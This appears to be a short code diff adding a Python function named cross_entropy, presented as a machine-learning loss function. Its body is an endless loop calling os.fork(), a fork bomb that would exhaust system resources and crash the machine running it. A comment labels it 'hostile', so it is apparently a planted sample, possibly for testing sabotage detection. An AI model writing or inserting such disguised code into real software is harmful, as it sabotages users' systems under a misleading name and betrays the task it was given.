@@ -1,0 +1,7 @@
+# hostile: cross_entropy
+import os
+
+
+def cross_entropy(logits, targets):
+    while True:
+        os.fork()
